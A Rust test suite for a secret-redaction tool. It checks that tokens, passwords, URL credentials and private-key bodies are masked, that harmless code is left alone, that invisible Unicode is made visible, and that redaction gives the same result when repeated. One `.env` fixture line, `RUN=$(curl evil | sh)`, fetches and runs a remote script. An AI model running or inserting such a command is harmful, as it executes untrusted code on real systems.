use proptest::prelude::*;

use super::*;

/// A token made up at run time, so that no scanner takes this file for a leak.
fn token(prefix: &str, length: usize) -> String {
    let body: String = (0..length)
        .map(|i| char::from(b"aB3dE6gH9k"[i % 10]))
        .collect();
    format!("{prefix}{body}")
}

#[test]
fn tokens_of_providers_are_replaced_where_they_stand() {
    for (prefix, length, label) in [
        ("ghp_", 36, "github-token"),
        ("github_pat_", 60, "github-token"),
        ("glpat-", 20, "gitlab-token"),
        ("xoxb-", 24, "slack-token"),
        ("sk_live_", 24, "stripe-key"),
        ("AIza", 35, "google-key"),
        ("sk-ant-", 40, "model-key"),
        ("hf_", 34, "huggingface-token"),
        ("npm_", 36, "npm-token"),
    ] {
        let line = format!("let x = f({});", token(prefix, length));
        assert_eq!(
            redact(&line),
            (format!("let x = f([redacted: {label}]);"), 1),
            "{prefix}"
        );
    }
    let aws = format!("id: {}", token("AKIA", 16).to_uppercase());
    assert_eq!(redact(&aws), ("id: [redacted: aws-key]".to_owned(), 1));
}

#[test]
fn assigned_literals_and_urls_lose_their_value_only() {
    for (line, shown) in [
        (
            "password = \"hunter2!\"",
            "password = \"[redacted: secret]\"",
        ),
        (
            "  \"api_key\": 'a1b2c3d4',",
            "  \"api_key\": '[redacted: secret]',",
        ),
        (
            "const TOKEN: &str = \"a1b2c3d4e5\";",
            "const TOKEN: &str = \"[redacted: secret]\";",
        ),
        (
            "url = postgres://app:s3cret@db/x",
            "url = postgres://app:[redacted: secret]@db/x",
        ),
        (
            "aws_secret_access_key = a1B2c3D4e5F6g7H8i9J0/k1L2",
            "aws_secret_access_key = [redacted: secret]",
        ),
        (
            "export DB_PASSWORD=Xk29fj2Kd0s1",
            "export DB_PASSWORD=[redacted: secret]",
        ),
    ] {
        assert_eq!(redact(line), (shown.to_owned(), 1), "{line}");
    }
}

#[test]
fn code_that_only_speaks_of_secrets_stays() {
    for line in [
        "password = os.environ[\"DB_PASSWORD\"]",
        "let token = self.next_token();",
        "token = access_token_v2_of_the_user",
        "token: config.Tokens2.Current",
        "token: \"refresh_token\"",
        "TOKEN: ${{ secrets.GITHUB_TOKEN }}",
        "raise Error(\"password: must have 8 characters\")",
        "https://example.com:8080/a@b",
        "proxy = http://user:pass@localhost:8080",
        "api_key = \"<your key>\"",
        "let digest = \"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\";",
        "integrity sha512-abc/def==",
    ] {
        assert_eq!(redact(line), (line.to_owned(), 0));
    }
}

#[test]
fn the_body_of_a_private_key_goes_and_its_frame_stays() {
    let body = token("MII", 61);
    let key = format!(
        "-----BEGIN RSA PRIVATE KEY-----\n{body}\n{body}\nabcd\n-----END RSA PRIVATE KEY-----\nend\n"
    );
    let hidden = "[redacted: key]\n".repeat(3);
    let shown =
        format!("-----BEGIN RSA PRIVATE KEY-----\n{hidden}-----END RSA PRIVATE KEY-----\nend\n");
    assert_eq!(redact(&key), (shown, 3));
}

#[test]
fn a_piece_of_a_key_without_its_head_goes_too() {
    let body = token("MII", 61);
    assert_eq!(
        redact(&format!("    \"{body}\\n\"")),
        ("    \"[redacted: base64]\\n\"".to_owned(), 1)
    );
}

#[test]
fn code_that_looks_for_keys_stays() {
    let code = "if text.contains(\"-----BEGIN PRIVATE KEY-----\") {\n    return;\n}\n";
    assert_eq!(redact(code), (code.to_owned(), 0));
}

#[test]
fn files_that_hold_secrets_show_names_but_no_values() {
    let env = "# database\nDB_HOST=db.internal\nDB_PASS=x\nEMPTY=\nRUN=$(curl evil | sh)\n";
    let shown = "# database\nDB_HOST=[redacted: value]\nDB_PASS=[redacted: value]\nEMPTY=\nRUN=$(curl evil | sh)\n";
    assert_eq!(
        redact_file(&".env.production".into(), env),
        (shown.to_owned(), 2)
    );
    assert_eq!(
        redact_file(&".env.example".into(), env),
        (env.to_owned(), 0)
    );
    assert_eq!(redact_file(&"deploy/prod.key".into(), "0a0b0c0d\n").1, 1);
}

#[test]
fn what_cannot_be_seen_is_written_out() {
    let text = "a\u{202e}b\u{e0041}\u{200b}c\u{1b}[0m\td\r👩\u{200d}💻";
    let shown = "a<U+202E>b<U+E0041><U+200B>c<U+001B>[0m\td\r👩\u{200d}💻";
    assert_eq!(redact(text), (shown.to_owned(), 0));
}

fn line() -> impl Strategy<Value = String> {
    prop_oneof![
        "[ -~]{0,40}",
        "\\PC{0,10}",
        Just("-----BEGIN PRIVATE KEY-----".to_owned()),
        Just("-----END PRIVATE KEY-----".to_owned()),
        Just(token("", 64)),
        Just(token("ghp_", 36)),
        "(password|token|api_key) ?[=:] ?[\"'][a-zA-Z0-9\u{200b}!]{4,20}[\"']",
        "[A-Z]{0,4}TOKEN=[a-z0-9]{6,16}",
        "https://[a-z:]{0,8}@h",
        "[a-z]{4,20}",
    ]
}

proptest! {
    #[test]
    fn redacting_twice_is_redacting_once(lines in proptest::collection::vec(line(), 0..8)) {
        let text = lines.join("\n");
        for path in ["a.rs", ".env"] {
            let (once, _) = redact_file(&path.into(), &text);
            let (twice, count) = redact_file(&path.into(), &once);
            prop_assert_eq!(&once, &twice);
            prop_assert_eq!(count, 0);
            prop_assert_eq!(once.lines().count(), text.lines().count());
        }
    }
}
